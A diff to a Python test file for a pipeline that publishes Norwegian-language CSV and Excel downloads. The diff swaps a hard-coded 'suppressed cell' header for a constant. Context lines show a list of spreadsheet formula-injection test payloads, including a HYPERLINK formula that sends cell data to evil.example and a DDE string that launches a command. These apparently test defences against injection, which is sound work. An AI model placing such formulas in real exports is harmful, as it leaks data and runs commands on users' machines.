@@ -11,6 +11,7 @@ from pathlib import Path
 import yaml
 from openpyxl import load_workbook
 
+from flows import constants
 from flows.publish.downloads import (
     CONTENTS_SHEET,
     LABELS_FILE,
@@ -23,6 +24,7 @@ from flows.publish.downloads import (
 from flows.publish.marts import MARTS, ReportData
 from flows.publish.verify import check_csvs, check_workbook
 
+SUPPRESSED_LABEL = f"Skjermet (under {constants.var('small_cell_n')} svar)"
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?d="&A1,"Klikk")',
     "+1+cmd|' /C calc'!A0",
@@ -225,7 +227,7 @@ def test_csv_for_excel_has_bom_semicolons_and_headers_in_bokmaal(tmp_path):
     assert raw.startswith(b"\xef\xbb\xbf")
     assert raw.split(b"\r\n")[0].count(b";") == 7 and b"," not in raw.split(b"\r\n")[0]
     assert rows[0] == ["Geografisk kode", "Sted", "År", "Indikator (id)", "Verdi", "Teller",
-                       "Skjult (for få svar)", "Opphav"]  # fmt: skip
+                       SUPPRESSED_LABEL, "Opphav"]  # fmt: skip
     assert rows[1][:2] == ["bodo", "Bodø"]  # the id stays (it is the key), the name beside it
     _, towns = _read(tmp_path / "dim_town.csv")
     assert towns[1] == ["bodo", "Bodø", "1"]
@@ -283,7 +285,7 @@ def test_xlsx_has_bokmaal_headers_frozen_filters_widths_and_number_formats(tmp_p
     values = workbook["Indikatorverdier"]
     header = [c.value for c in values[1]]
     assert header == ["Geografisk kode", "Sted", "År", "Indikator (id)", "Verdi", "Teller",
-                      "Skjult (for få svar)", "Opphav"]  # fmt: skip
+                      SUPPRESSED_LABEL, "Opphav"]  # fmt: skip
     births = values[2]
     assert births[4].value == 9.51117009511 and births[4].number_format == "#,##0.0"
     assert values[3][4].number_format == "#,##0.00" and values[4][4].number_format == "#,##0"
@@ -291,7 +293,7 @@ def test_xlsx_has_bokmaal_headers_frozen_filters_widths_and_number_formats(tmp_p
     assert births[6].value == "nei" and values[3][6].value == "ja"
     assert births[7].value == OFFICIAL and values[3][7].value == SAMPLE
     assert values.column_dimensions["A"].width >= len("Geografisk kode")
-    assert values.column_dimensions["G"].width >= len("Skjult (for få svar)")
+    assert values.column_dimensions["G"].width >= len(SUPPRESSED_LABEL)
     definitions = workbook["definisjoner"]
     assert [c.value for c in definitions[1]][:3] == ["Indikator (id)", "Navn (bokmål)",
                                                      "Navn (engelsk)"]  # fmt: skip
